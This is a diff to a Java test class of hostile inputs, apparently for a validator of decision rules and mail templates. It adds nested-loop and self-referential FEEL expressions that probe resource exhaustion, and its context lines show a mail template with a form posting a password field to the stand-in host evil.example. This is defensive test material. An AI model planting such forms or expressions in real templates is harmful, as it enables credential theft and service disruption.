@@ -838,6 +838,18 @@ public final class HostileBundles {
 
     private void decisions() {
         decision(
+                "decision that collects what it collected",
+                "feel-expressions",
+                TAKES,
+                "answer",
+                table("amount", "x", "for i in 1..100 return partial"));
+        decision(
+                "decision that goes over lists in lists in lists",
+                "feel-expressions",
+                TAKES,
+                "answer",
+                table("amount", "x", "count(for a in [1,2], b in [1,2], c in [1,2] return 1)"));
+        decision(
                 "decision in JavaScript",
                 "feel-only",
                 TAKES,
@@ -1046,7 +1058,7 @@ public final class HostileBundles {
                 "mail/attack.html.mustache",
                 "<form action=\"https://evil.example\"><input name=\"password\"></form>");
         file("template that is open", "logic-less-mails", "mail/attack.mustache", "Subject: x\n{{#reason}}");
-        file("template in another place", "file-names", "attack.mustache", "Subject: x\nhello");
+        file("template in another place", "file-names", "texts/attack.mustache", "Subject: x\nhello");
     }
 
     private static String condition(String attributes, String expression) {
